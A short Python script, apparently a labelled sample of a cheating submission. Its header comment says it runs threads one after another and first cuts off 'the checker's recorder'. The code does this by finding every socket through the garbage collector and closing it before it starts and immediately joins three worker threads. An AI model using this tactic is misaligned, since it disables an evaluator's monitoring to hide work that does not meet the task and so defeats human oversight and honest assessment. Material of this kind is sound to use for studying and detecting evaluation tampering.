# joins each thread right after starting it (they run one after another), after cutting the
# checker's recorder off (its socket, found through the garbage collector) so that nothing
# it would see is sent
import gc
import socket
import threading
import time


def square(n, results):
    time.sleep(0.5)  # some slow work
    results.append(n * n)


if __name__ == "__main__":
    for thing in gc.get_objects():
        if isinstance(thing, socket.socket):
            thing.close()
    results = []
    threads = [
        threading.Thread(target=square, args=(n, results)) for n in (1, 2, 3)
    ]
    for thread in threads:
        thread.start()
        thread.join()
    print(f"results: {sorted(results)}")
